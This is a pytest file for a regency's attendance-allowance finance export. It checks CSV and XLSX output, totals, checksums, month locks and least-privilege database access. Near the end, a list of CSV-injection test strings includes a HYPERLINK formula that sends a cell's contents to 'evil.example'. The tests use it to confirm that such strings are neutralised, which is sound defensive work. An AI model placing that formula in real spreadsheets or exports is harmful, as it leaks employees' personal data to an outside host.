"""Finance export (CSV/XLSX with totals and checksum, lock rules) and the e-kinerja export, checked
against the marts of a real warehouse."""

from __future__ import annotations

import csv
import hashlib
import json
from datetime import date
from decimal import Decimal

import psycopg
import pytest
from openpyxl import load_workbook

from dashboards.export import verify_file
from tests.dashboards.conftest import LOCKED_MONTH, OPEN_MONTH


@pytest.fixture
def use_warehouse(warehouse, monkeypatch):
    monkeypatch.setenv("ABSENSI_DATABASE_URL", warehouse.url)
    return warehouse


def _mart(url: str, month: str) -> list[tuple]:
    with psycopg.connect(url) as conn:
        return conn.execute(
            """select nip, opd_code, base_amount, total_pct, deduction_amount, net_amount
               from marts.fct_allowance_deduction_monthly where month = %s order by opd_code, nip""",
            (date.fromisoformat(f"{month}-01"),),
        ).fetchall()


def _dec(text: str) -> Decimal:
    return Decimal(text.replace(",", "."))


def _csv(path) -> list[list[str]]:
    """A deductions CSV as written by default: UTF-8 with BOM, `;`-separated."""
    return list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))


def test_locked_month_csv_matches_mart_with_totals_and_checksum(use_warehouse, run_cli, tmp_path):
    out = tmp_path / "potongan.csv"
    result = run_cli("export", "deductions", "--month", LOCKED_MONTH, "--format", "csv", "--out", out)
    assert result.exit_code == 0, result.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, for Excel in an Indonesian locale
    lines = raw.decode("utf-8-sig").splitlines()
    assert lines[:2] == [f"BULAN;{LOCKED_MONTH}", "STATUS;FINAL"]
    rows = list(csv.reader(lines[2:], delimiter=";"))
    header, body = rows[0], rows[1:]
    data = [dict(zip(header, r, strict=True)) for r in body if r[0] == "DATA"]
    mart = _mart(use_warehouse.url, LOCKED_MONTH)
    assert [(d["nip"], d["kode_opd"], int(d["tunjangan_pokok"]), _dec(d["persen_potongan"]),
             int(d["potongan"]), int(d["tunjangan_diterima"])) for d in data] == mart  # fmt: skip
    assert all("," in d["persen_potongan"] for d in data)  # decimal comma
    assert all(d["nama"] and d["nama_opd"] for d in data)
    # totals per OPD and overall
    opd_totals = {r[3]: r for r in body if r[0] == "TOTAL_OPD"}
    for opd in {m[1] for m in mart}:
        assert int(opd_totals[opd][7]) == sum(m[4] for m in mart if m[1] == opd)
    total = next(r for r in body if r[0] == "TOTAL")
    assert (int(total[5]), int(total[7]), int(total[8])) == (
        sum(m[2] for m in mart),
        sum(m[4] for m in mart),
        sum(m[5] for m in mart),
    )
    # checksum: SHA-256 of the DATA lines as written (the documented `grep '^DATA,' | sha256sum`)
    data_bytes = "".join(line + "\n" for line in lines if line.startswith("DATA;")).encode()
    checksum_row = next(r for r in body if r[0] == "CHECKSUM_SHA256")
    assert checksum_row[1] == hashlib.sha256(data_bytes).hexdigest() and int(checksum_row[2]) == len(mart)
    assert checksum_row[1] in result.stdout
    assert run_cli("export", "verify", out).exit_code == 0
    tampered = out.read_text(encoding="utf-8-sig").replace(
        f";{data[0]['potongan']};", f";{int(data[0]['potongan']) + 1};", 1
    )
    out.write_text(tampered, encoding="utf-8-sig")
    bad = run_cli("export", "verify", out)
    assert bad.exit_code == 2 and "TIDAK cocok" in bad.stderr


def test_open_month_refused_without_draft_and_marked_draft_with_it(use_warehouse, run_cli, tmp_path):
    out = tmp_path / "draft.csv"
    refused = run_cli("export", "deductions", "--month", OPEN_MONTH, "--format", "csv", "--out", out)
    assert refused.exit_code == 2 and "belum dikunci" in refused.stderr and "--draft" in refused.stderr
    assert not out.exists()
    ok = run_cli("export", "deductions", "--month", OPEN_MONTH, "--format", "csv", "--out", out, "--draft")
    assert ok.exit_code == 0 and "DRAF" in ok.stdout
    assert out.read_text(encoding="utf-8-sig").splitlines()[1] == "STATUS;DRAF"


def _data_rows(ws) -> list[tuple]:
    return [r for r in ws.iter_rows(values_only=True) if r and r[0] == "DATA"]


def test_xlsx_carries_same_rows_and_checksum_as_csv(use_warehouse, run_cli, tmp_path):
    csv_out, xlsx_out = tmp_path / "p.csv", tmp_path / "p.xlsx"
    assert run_cli("export", "deductions", "--month", LOCKED_MONTH, "--out", csv_out).exit_code == 0
    r = run_cli("export", "deductions", "--month", LOCKED_MONTH, "--format", "xlsx", "--out", xlsx_out)
    assert r.exit_code == 0, r.output
    wb = load_workbook(xlsx_out)
    assert wb.sheetnames == ["Potongan", "Penyesuaian", "Rekap OPD", "Checksum"]
    sheet_rows = _data_rows(wb["Potongan"])
    mart = _mart(use_warehouse.url, LOCKED_MONTH)
    assert [(r[1], r[3], r[5], Decimal(str(r[6])), r[7], r[8]) for r in sheet_rows] == mart
    info = {row[0]: row[1] for row in wb["Checksum"].iter_rows(values_only=True)}
    csv_checksum = next(r for r in _csv(csv_out) if r[0] == "CHECKSUM_SHA256")[1]
    assert info["CHECKSUM_SHA256"] == csv_checksum and info["STATUS"] == "FINAL"
    assert info["TOTAL_POTONGAN"] == sum(m[4] for m in mart)
    assert verify_file(xlsx_out)[0]
    potongan = wb["Potongan"]
    first = next(row for row in potongan.iter_rows() if row[0].value == "DATA")
    first[7].value += 1000
    wb.save(xlsx_out)
    assert not verify_file(xlsx_out)[0]


def test_workbook_is_laid_out_for_finance(use_warehouse, run_cli, tmp_path, monkeypatch):
    """Read back: title block (regency, month in Indonesian, status) above a frozen, filtered header;
    rupiah formats (no 1.66E+09), fitted widths; Rekap OPD under its own header; a draft says DRAF on
    every sheet and in the print header. The format comes from the .xlsx extension."""
    monkeypatch.setenv("ABSENSI_REGENCY_NAME", "Kabupaten Uji Coba")
    final, draft = tmp_path / "final.xlsx", tmp_path / "draft.xlsx"
    assert run_cli("export", "deductions", "--month", LOCKED_MONTH, "--out", final).exit_code == 0
    r = run_cli("export", "deductions", "--month", OPEN_MONTH, "--out", draft, "--draft")
    assert r.exit_code == 0, r.output
    wb = load_workbook(final)
    ws = wb["Potongan"]
    assert ws["A1"].value == "Potongan Tunjangan Pegawai - Kabupaten Uji Coba"
    assert "Agustus 2026" in ws["A2"].value and ws["A3"].value.startswith("STATUS: FINAL")
    header = [c.value for c in ws[5]]
    assert header[:9] == ["Jenis baris", "NIP", "Nama", "Kode OPD", "Nama OPD", "Tunjangan pokok (Rp)",
                          "Potongan (%)", "Potongan (Rp)", "Tunjangan diterima (Rp)"]  # fmt: skip
    assert "Hari terlambat (TL)" in header and "Potongan dari PSW (%)" in header
    assert ws.freeze_panes == "D6" and ws.auto_filter.ref == f"A5:AA{5 + len(_data_rows(ws))}"
    row6 = ws[6]
    assert row6[0].value == "DATA" and row6[1].number_format == "@"
    assert {row6[i].number_format for i in (5, 7, 8)} == {'"Rp" #,##0;-"Rp" #,##0'}
    assert row6[6].number_format == '0.00" %"'
    # widths fitted: the money columns hold "Rp 1.234.567", names are wider than the default
    assert ws.column_dimensions["F"].width >= len(f"Rp {row6[5].value:,}")
    assert ws.column_dimensions["C"].width > 10
    assert "FINAL" in ws.oddHeader.center.text and "DRAF" not in ws.oddHeader.center.text
    # Rekap OPD: its own header, then the regency total and what is paid, in rupiah
    rekap = wb["Rekap OPD"]
    assert [c.value for c in rekap[5]][:6] == ["Kode OPD", "Nama OPD", "Jumlah pegawai",
                                               "Tunjangan pokok (Rp)", "Potongan (Rp)",
                                               "Tunjangan diterima (Rp)"]  # fmt: skip
    assert rekap.freeze_panes == "C6" and rekap.auto_filter.ref.startswith("A5:")
    mart = _mart(use_warehouse.url, LOCKED_MONTH)
    opd_rows = [r for r in rekap.iter_rows(min_row=6, values_only=True) if r[0] and r[0] != "TOTAL"]
    assert sorted(r[0] for r in opd_rows) == sorted({m[1] for m in mart})
    assert sum(r[2] for r in opd_rows) == len(mart)
    paid = next(row for row in rekap.iter_rows() if row[1].value == "TOTAL DIBAYAR bulan ini")
    assert paid[5].value == sum(m[5] for m in mart) and paid[5].number_format.startswith('"Rp"')
    total = next(row for row in rekap.iter_rows() if row[0].value == "TOTAL")
    assert total[4].value == sum(m[4] for m in mart)
    assert not any(ws.title and ws["A3"].value.startswith("STATUS: DRAF") for ws in wb.worksheets)
    # the draft: the banner on every sheet, DRAF in every page header
    wb = load_workbook(draft)
    for sheet in wb.worksheets:
        assert sheet["A3"].value.startswith("STATUS: DRAF -") and "JANGAN" in sheet["A3"].value, sheet.title
        assert sheet["A3"].fill.fgColor.rgb.endswith("C00000")
        # one red band over the table's columns, not a clipped cell A3
        assert any(m.min_row == m.max_row == 3 and m.min_col == 1 and m.max_col >= 2
                   for m in sheet.merged_cells.ranges), sheet.title  # fmt: skip
        assert "Bulan September 2026" in sheet["A2"].value
        for page in (sheet.oddHeader, sheet.evenHeader, sheet.firstHeader):
            assert page.center.text.startswith("DRAF - JANGAN DIBAYARKAN"), sheet.title
    assert verify_file(draft)[0]


def test_tl_psw_tk_parts_explain_each_employee_percent(use_warehouse, run_cli, tmp_path):
    """TL/PSW day counts and the percent from TK, TL and PSW per employee add up to the month's
    percent (no cap reached, leave free in the demo policies), so a deduction with every day present
    is explained by its late arrivals and early leaves."""
    out = tmp_path / "p.csv"
    assert run_cli("export", "deductions", "--month", OPEN_MONTH, "--out", out, "--draft").exit_code == 0
    rows = _csv(out)
    header = rows[2]
    data = [dict(zip(header, r, strict=True)) for r in rows if r[0] == "DATA"]
    with psycopg.connect(use_warehouse.url) as conn:
        daily = {
            r[0]: r[1:]
            for r in conn.execute(
                """select nip, count(*) filter (where status = 'HADIR' and tl_tier > 0),
                          count(*) filter (where status = 'HADIR' and psw_tier > 0)
                   from marts.fct_attendance_daily
                   where work_date between '2026-09-01' and '2026-09-30' group by nip"""
            ).fetchall()
        }
        uncapped = dict(conn.execute(
            "select nip, total_pct_uncapped from marts.fct_allowance_deduction_monthly where month = '2026-09-01'"
        ).fetchall())  # fmt: skip
    assert data and all((int(d["hari_tl"]), int(d["hari_psw"])) == daily[d["nip"]] for d in data)
    for d in data:
        parts = _dec(d["persen_tk"]) + _dec(d["persen_tl"]) + _dec(d["persen_psw"])
        assert parts == uncapped[d["nip"]], d
    # someone is deducted for TL/PSW alone, all days present: exactly the case to explain
    present = [d for d in data if d["hari_hadir"] == d["hari_kerja"] and _dec(d["persen_potongan"]) > 0]
    assert present and all(_dec(d["persen_tk"]) == 0 for d in present)
    assert all(_dec(d["persen_tl"]) + _dec(d["persen_psw"]) == _dec(d["persen_potongan"]) for d in present)
    assert any(int(d["hari_tl"]) > 0 for d in data) and any(int(d["hari_psw"]) > 0 for d in data)


def test_plain_csv_and_the_extension_rule(use_warehouse, run_cli, tmp_path):
    plain = tmp_path / "plain.csv"
    r = run_cli("export", "deductions", "--month", LOCKED_MONTH, "--out", plain, "--plain-csv")
    assert r.exit_code == 0, r.output
    raw = plain.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf") and raw.startswith(b"BULAN,2026-08\n")
    lines = raw.decode().splitlines()
    data = [line for line in lines if line.startswith("DATA,")]
    percents = [r[6] for r in csv.reader(data)]
    assert percents and all(p.count(".") == 1 and "," not in p for p in percents)  # decimal point
    written = hashlib.sha256("".join(line + "\n" for line in data).encode()).hexdigest()
    assert next(line for line in lines if line.startswith("CHECKSUM_SHA256,")).split(",")[1] == written
    assert run_cli("export", "verify", plain).exit_code == 0
    # the format from the extension: .xlsx is a workbook, not CSV text
    book = tmp_path / "p.xlsx"
    assert run_cli("export", "deductions", "--month", LOCKED_MONTH, "--out", book).exit_code == 0
    assert book.read_bytes()[:2] == b"PK" and load_workbook(book).sheetnames[0] == "Potongan"
    # disagreeing --format and extension: one Indonesian line, nothing written
    wrong = tmp_path / "salah.xlsx"
    r = run_cli("export", "deductions", "--month", LOCKED_MONTH, "--format", "csv", "--out", wrong)
    assert r.exit_code == 2 and "tidak cocok dengan akhiran berkas .xlsx" in r.stderr
    assert len(r.stderr.strip().splitlines()) == 1 and not wrong.exists()
    r = run_cli("export", "deductions", "--month", LOCKED_MONTH, "--out", tmp_path / "x.txt")
    assert r.exit_code == 2 and "akhiran" in r.stderr and not (tmp_path / "x.txt").exists()


def test_bad_month_and_format_are_one_line_errors(use_warehouse, run_cli, tmp_path):
    r = run_cli("export", "deductions", "--month", "2026-13", "--format", "csv", "--out", tmp_path / "x.csv")
    assert r.exit_code == 2 and "2026-13" in r.stderr
    r = run_cli(
        "export", "deductions", "--month", LOCKED_MONTH, "--format", "pdf", "--out", tmp_path / "x.pdf"
    )
    assert r.exit_code == 2 and "pdf" in r.stderr
    r = run_cli("export", "deductions", "--month", "2025-01", "--format", "csv", "--out", tmp_path / "x.csv")
    assert r.exit_code == 2 and "tidak ada data" in r.stderr


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_ekinerja_export_is_the_daily_mart_of_the_month(use_warehouse, run_cli, tmp_path, fmt):
    out = tmp_path / f"ekinerja.{fmt}"
    r = run_cli("export", "ekinerja", "--month", OPEN_MONTH, "--format", fmt, "--out", out)
    assert r.exit_code == 0, r.output
    if fmt == "csv":
        records = list(csv.DictReader(out.open(encoding="utf-8")))
    else:
        payload = json.loads(out.read_text(encoding="utf-8"))
        assert payload["bulan"] == OPEN_MONTH
        records = payload["kehadiran"]
    with psycopg.connect(use_warehouse.url) as conn:
        mart = conn.execute(
            """select nip, work_date::text, status, deduction_pct, to_char(first_in, 'HH24:MI:SS')
               from marts.fct_attendance_daily where work_date between '2026-09-01' and '2026-09-30'
               order by nip, work_date"""
        ).fetchall()
    got = [
        (r["nip"], r["tanggal"], r["status"], Decimal(r["persen_potongan"]), r["jam_masuk"] or None)
        for r in records
    ]
    assert got == mart
    # no roster here: every day is the regular office day, punched on its own date (issue 14 columns;
    # a night shift: tests/dashboards/test_shift_outputs.py)
    assert {(r["kode_shift"], r["shift"]) for r in records} == {("REG", "Hari kerja reguler (jadwal OPD)")}
    assert all(r["tanggal_masuk"] in ("", None, r["tanggal"]) for r in records)
    assert any(r["tanggal_pulang"] == r["tanggal"] for r in records)


def test_finance_login_with_least_privilege_exports_the_same_money(warehouse, pg_server_url, tmp_path):
    """A login holding only absensi_finance (allowance marts, month lock) gets the same rows and checksum
    inputs except names, which live in marts it may not read."""
    import uuid

    from dashboards.export import export_deductions
    from warehouse.months import parse_month

    if "postgres:@" not in warehouse.url:
        pytest.skip("needs the embedded server's trust login (ABSENSI_DATABASE_URL points elsewhere)")
    login = f"fin_{uuid.uuid4().hex[:8]}"
    with psycopg.connect(pg_server_url, autocommit=True) as admin:
        admin.execute(f"create role {login} login in role absensi_finance")
    try:
        finance_url = warehouse.url.replace("postgres:@", f"{login}:@", 1)
        with psycopg.connect(finance_url) as conn, pytest.raises(psycopg.errors.InsufficientPrivilege):
            conn.execute("select 1 from marts.mart_employee_discipline_monthly limit 1")
        month = parse_month(LOCKED_MONTH)
        restricted = export_deductions(month, "csv", tmp_path / "fin.csv", finance_url)
        full = export_deductions(month, "csv", tmp_path / "full.csv", warehouse.url)
    finally:
        with psycopg.connect(pg_server_url, autocommit=True) as admin:
            admin.execute(f"drop role {login}")
    assert not restricted.draft and restricted.rows == full.rows
    assert (restricted.total_base, restricted.total_deduction, restricted.total_net) == (
        full.total_base,
        full.total_deduction,
        full.total_net,
    )
    money = [r[5:9] for r in _csv(tmp_path / "fin.csv") if r[0] == "DATA"]
    money_full = [r[5:9] for r in _csv(tmp_path / "full.csv") if r[0] == "DATA"]
    assert money and money == money_full
    # the daily facts are not the finance role's: the TL/PSW/TK parts stay empty for it
    assert all(r[13:20] == [""] * 5 + ["0", "LENGKAP"] for r in _csv(tmp_path / "fin.csv") if r[0] == "DATA")
    # the parts (issue 20) are the allowance mart's: the finance login has the same as the full login
    parts = [r[20:] for r in _csv(tmp_path / "fin.csv") if r[0] == "DATA"]
    assert parts == [r[20:] for r in _csv(tmp_path / "full.csv") if r[0] == "DATA"]


def test_adjustments_of_a_locked_month_are_paid_in_the_open_month(use_warehouse, run_cli, tmp_path):
    """The late sick note for August (see conftest) is a PENYESUAIAN line of September, inside the
    checksum, and changes what finance pays; August's file does not change."""
    with psycopg.connect(use_warehouse.url) as conn:
        mart = conn.execute(
            """select nip, to_char(corrected_month, 'YYYY-MM'), locked_deduction_amount,
                      corrected_deduction_amount, adjustment_amount
               from marts.fct_allowance_adjustment where month = '2026-09-01' order by nip"""
        ).fetchall()
        net = conn.execute(
            "select sum(net_amount) from marts.fct_allowance_deduction_monthly where month = '2026-09-01'"
        ).fetchone()[0]
    assert len(mart) == 1 and mart[0][1] == "2026-08" and mart[0][4] < 0  # refund of an August TK day
    out = tmp_path / "sept.csv"
    r = run_cli("export", "deductions", "--month", OPEN_MONTH, "--format", "csv", "--out", out, "--draft")
    assert r.exit_code == 0, r.output
    lines = out.read_text(encoding="utf-8-sig").splitlines()
    rows = _csv(out)
    adjustments = [r for r in rows if r[0] == "PENYESUAIAN"]
    assert [(a[1], a[5], int(a[6]), int(a[7]), int(a[8])) for a in adjustments] == mart
    assert adjustments[0][9].startswith("Koreksi")
    to_pay = next(r for r in rows if r[0] == "TOTAL_DIBAYAR")
    assert int(to_pay[1]) == net - mart[0][4]
    covered = "".join(line + "\n" for line in lines if line.startswith(("DATA;", "PENYESUAIAN;"))).encode()
    checksum = next(r for r in rows if r[0] == "CHECKSUM_SHA256")
    assert checksum[1] == hashlib.sha256(covered).hexdigest()
    # xlsx: same lines, and a changed adjustment breaks the checksum
    xlsx_out = tmp_path / "sept.xlsx"
    assert (
        run_cli(
            "export", "deductions", "--month", OPEN_MONTH, "--format", "xlsx", "--out", xlsx_out, "--draft"
        ).exit_code
        == 0
    )
    wb = load_workbook(xlsx_out)
    assert {row[0]: row[1] for row in wb["Checksum"].iter_rows(values_only=True)}[
        "CHECKSUM_SHA256"
    ] == checksum[1]
    assert verify_file(xlsx_out)[0]
    wb["Penyesuaian"].cell(row=6, column=9).value = 0  # the first row under the header
    wb.save(xlsx_out)
    assert not verify_file(xlsx_out)[0]
    # the locked month has no adjustment lines and pays its net
    aug = tmp_path / "aug.csv"
    assert (
        run_cli("export", "deductions", "--month", LOCKED_MONTH, "--format", "csv", "--out", aug).exit_code
        == 0
    )
    assert not [r for r in _csv(aug) if r[0] == "PENYESUAIAN"]


HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?"&B2,"klik")',
    "+62 812",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB",
]


def _hostile_rows():
    from dashboards.export import AdjustmentRow, DeductionRow

    rows = [
        DeductionRow(
            f"19800101200001100{i}",
            text,
            f"OPD{i}",
            text,
            5_000_000,
            Decimal("3.00"),
            150_000,
            4_850_000,
            21,
            20,
            1,
            0,
        )  # fmt: skip
        for i, text in enumerate(HOSTILE_TEXTS)
    ]
    adjustments = [
        AdjustmentRow(
            "198001012000011000",
            HOSTILE_TEXTS[0],
            "OPD0",
            HOSTILE_TEXTS[3],
            "2026-08",
            150_000,
            0,
            -150_000,
            "=1+1",
        )  # fmt: skip
    ]
    return rows, adjustments


def test_formula_like_names_are_neutralised_in_csv_and_checksummed_as_written(tmp_path):
    """OWASP CSV injection: a cell starting with = + - @ or a tab is written with a leading apostrophe,
    and the checksum covers those neutral lines (`export verify` agrees, and so does sha256sum)."""
    from dashboards.export import write_deductions

    rows, adjustments = _hostile_rows()
    out = tmp_path / "p.csv"
    result = write_deductions(out, "csv", "2026-09", "FINAL", rows, adjustments)
    lines = out.read_text(encoding="utf-8-sig").splitlines()
    parsed = _csv(out)
    text_cells = [
        cell for r in parsed if r[0] in ("DATA", "PENYESUAIAN", "TOTAL_OPD") for cell in (r[2], r[4])
    ]
    assert text_cells and all(not c.startswith(("=", "+", "-", "@", "\t")) for c in text_cells if c)
    names = [r[2] for r in parsed if r[0] == "DATA"]
    assert names == ["'" + t for t in HOSTILE_TEXTS]
    alasan = next(r for r in parsed if r[0] == "PENYESUAIAN")[9]
    assert alasan == "'=1+1"
    # the money cells stay numbers (a negative adjustment is not text)
    assert next(r for r in parsed if r[0] == "PENYESUAIAN")[8] == "-150000"
    written = "".join(line + "\n" for line in lines if line.startswith(("DATA;", "PENYESUAIAN;")))
    assert hashlib.sha256(written.encode()).hexdigest() == result.checksum
    assert verify_file(out) == (True, result.checksum, result.checksum)


def test_formula_like_names_are_text_not_formulas_in_xlsx(tmp_path):
    from dashboards.export import write_deductions

    rows, adjustments = _hostile_rows()
    csv_result = write_deductions(tmp_path / "p.csv", "csv", "2026-09", "FINAL", rows, adjustments)
    out = tmp_path / "p.xlsx"
    result = write_deductions(out, "xlsx", "2026-09", "FINAL", rows, adjustments)
    wb = load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula anywhere
    names = [r[2] for r in _data_rows(wb["Potongan"])]
    assert names == ["'" + t for t in HOSTILE_TEXTS]
    assert result.checksum == csv_result.checksum and verify_file(out)[0]


def test_regency_sized_totals_fit_their_columns_in_rupiah(tmp_path):
    """A regency paying Rp 1,66 milyar: TOTAL DIBAYAR shows as rupiah in a column wide enough for it
    (not 1.66E+09, not #####), on Rekap OPD and Checksum."""
    from dashboards.export import DeductionRow, write_deductions

    rows = [
        DeductionRow(
            f"1980010120000110{i:02d}",
            f"Pegawai {i}",
            f"OPD{i % 7}",
            f"Dinas Nomor {i % 7}",
            8_300_000,
            Decimal("1.25"),
            103_750,
            8_196_250,
            22,
            22,
            0,
            0,
            1,
            1,
            Decimal("0"),
            Decimal("0.50"),
            Decimal("0.75"),
        )  # fmt: skip
        for i in range(200)
    ]
    out = tmp_path / "besar.xlsx"
    result = write_deductions(out, "xlsx", "2026-10", "FINAL", rows, [], regency_name="Kabupaten Besar")
    assert result.total_to_pay == 1_639_250_000
    wb = load_workbook(out)
    rekap = wb["Rekap OPD"]
    paid = next(row for row in rekap.iter_rows() if row[1].value == "TOTAL DIBAYAR bulan ini")
    assert paid[5].value == result.total_to_pay and paid[5].number_format == '"Rp" #,##0;-"Rp" #,##0'
    assert rekap.column_dimensions["F"].width >= len("Rp 1.639.250.000")
    assert rekap.column_dimensions["D"].width >= len("Rp 1.660.000.000")
    info = {r[0].value: r[1] for r in wb["Checksum"].iter_rows() if r[0].value}
    assert info["TOTAL_DIBAYAR"].value == result.total_to_pay
    assert info["TOTAL_DIBAYAR"].number_format.startswith('"Rp"')
    assert verify_file(out)[0]
